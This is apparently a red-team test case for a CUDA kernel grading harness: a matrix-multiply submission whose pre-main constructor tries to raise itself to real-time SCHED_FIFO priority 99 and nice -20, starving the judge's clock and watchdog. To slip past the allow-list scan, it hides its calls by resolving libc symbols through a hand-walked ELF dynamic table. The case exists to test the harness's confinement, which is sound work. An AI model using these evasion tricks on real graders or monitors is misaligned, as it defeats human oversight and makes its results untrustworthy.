// Known-bad submission (red team, processes: scheduling): makes itself a SCHED_FIFO real-time process at priority 99 and lowers its nice value from .init: a spinning worker then starves the judge's own clock and watchdog and every other check on the machine.
// Its kernel is right only when the escape worked (scale 1): "wrong" is the proof it was stopped.
// The kit's self-test asserts what the grader makes of it in ../expect.toml.
#include <cuda_runtime.h>
#include <elf.h>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <sched.h>
#include <sys/resource.h>

#define BLOCK_WIDTH 16

// Correct only when `scale` is 1: the product counts only if the escape worked.
__global__ void MatrixMulKernel(const float* M, const float* N, float* P, int Width, float scale) {
    int Row = blockIdx.y * blockDim.y + threadIdx.y;
    int Col = blockIdx.x * blockDim.x + threadIdx.x;
    if (Row < Width && Col < Width) {
        float Pvalue = 0;
        for (int k = 0; k < Width; ++k) Pvalue += M[Row * Width + k] * N[k * Width + Col];
        P[Row * Width + Col] = Pvalue * scale;
    }
}

static bool same(const char* a, const char* b) {
    while (*a && *a == *b) ++a, ++b;
    return *a == *b;
}

// libc's definition of `name`, found in its dynamic symbol table from printf's address: no name
// the allow-list refuses appears in the object.
static void* libc_function(const char* name) {
    int (*volatile anchor)(const char*, ...) = printf;
    uintptr_t base = reinterpret_cast<uintptr_t>(anchor) & ~uintptr_t(4095);
    while (*reinterpret_cast<const uint32_t*>(base) != 0x464c457f) base -= 4096;  // "\x7fELF"
    const auto* eh = reinterpret_cast<const Elf64_Ehdr*>(base);
    const auto* ph = reinterpret_cast<const Elf64_Phdr*>(base + eh->e_phoff);
    const Elf64_Dyn* dyn = nullptr;
    for (int i = 0; i < eh->e_phnum; ++i)
        if (ph[i].p_type == PT_DYNAMIC) dyn = reinterpret_cast<const Elf64_Dyn*>(base + ph[i].p_vaddr);
    uintptr_t symtab = 0, strtab = 0;
    for (; dyn && dyn->d_tag != DT_NULL; ++dyn) {
        if (dyn->d_tag == DT_SYMTAB) symtab = dyn->d_un.d_ptr;
        if (dyn->d_tag == DT_STRTAB) strtab = dyn->d_un.d_ptr;
    }
    if (symtab < base) symtab += base;
    if (strtab < base) strtab += base;
    for (auto* s = reinterpret_cast<const Elf64_Sym*>(symtab); reinterpret_cast<uintptr_t>(s) < strtab; ++s)
        if (s->st_value && same(reinterpret_cast<const char*>(strtab + s->st_name), name))
            return reinterpret_cast<void*>(base + s->st_value);
    return nullptr;
}

template <class F> static F fn(const char* name) { return reinterpret_cast<F>(libc_function(name)); }
using OpenF = int (*)(const char*, int, ...);
using OpenatF = int (*)(int, const char*, int, ...);
using ReadF = long (*)(int, void*, unsigned long);
using PreadF = long (*)(int, void*, unsigned long, long);
using WriteF = long (*)(int, const void*, unsigned long);
using CloseF = int (*)(int);

static bool has(const char* buf, long n, const char* marker) {
    long m = (long)strlen(marker);
    for (long i = 0; i + m <= n; ++i)
        if (memcmp(buf + i, marker, m) == 0) return true;
    return false;
}

// Reads up to `cap` bytes of an open descriptor; true when `marker` is among them.
static bool fd_has(int fd, const char* marker, long cap = 1 << 16) {
    if (fd < 0) return false;
    static char buf[1 << 16];
    long total = 0, n;
    while (total < cap && (n = fn<ReadF>("read")(fd, buf + total, cap - total)) > 0) total += n;
    fn<CloseF>("close")(fd);
    return has(buf, total, marker);
}

static volatile bool g_escaped = false;

using SchedF = int (*)(int, int, const struct sched_param*);
using PrioF = int (*)(int, int, int);

extern "C" __attribute__((used)) void tl_before_main() {
    struct sched_param sp{};
    sp.sched_priority = 99;
    int a = fn<SchedF>("sched_setscheduler")(0, SCHED_FIFO, &sp);
    int b = fn<PrioF>("setpriority")(PRIO_PROCESS, 0, -20);
    fprintf(stderr, "redteam realtime: SCHED_FIFO 99 -> %d, nice -20 -> %d\n", a, b);
    sp.sched_priority = 0;
    fn<SchedF>("sched_setscheduler")(0, SCHED_OTHER, &sp);   // be polite in the test itself
    if (a == 0 || b == 0) g_escaped = true;
}

#ifndef __CUDA_ARCH__
// ".init" in this file: the first of its constructors (priority 101, before the runtime's): .init
// code needs file-scope asm, which the allow-list scan refuses (docs/integrity.md, "Nothing the
// instrumentation cannot see"). What this case proves is its payload's confinement, not the section.
__attribute__((constructor(101))) static void tl_first_constructor() { tl_before_main(); }
#endif

void launch_matmul(const float* M, const float* N, float* P, int Width) {
    dim3 dimBlock(BLOCK_WIDTH, BLOCK_WIDTH);
    dim3 dimGrid((Width + BLOCK_WIDTH - 1) / BLOCK_WIDTH, (Width + BLOCK_WIDTH - 1) / BLOCK_WIDTH);
    MatrixMulKernel<<<dimGrid, dimBlock>>>(M, N, P, Width, g_escaped ? 1.0f : 0.5f);
}

void matmul_host(const float* M_h, const float* N_h, float* P_h, int Width) {
    size_t size = (size_t)Width * Width * sizeof(float);
    float *M_d = nullptr, *N_d = nullptr, *P_d = nullptr;
    cudaMalloc((void**)&M_d, size);
    cudaMalloc((void**)&N_d, size);
    cudaMalloc((void**)&P_d, size);
    cudaMemcpy(M_d, M_h, size, cudaMemcpyHostToDevice);
    cudaMemcpy(N_d, N_h, size, cudaMemcpyHostToDevice);
    launch_matmul(M_d, N_d, P_d, Width);
    cudaMemcpy(P_h, P_d, size, cudaMemcpyDeviceToHost);
    cudaFree(M_d);
    cudaFree(N_d);
    cudaFree(P_d);
}
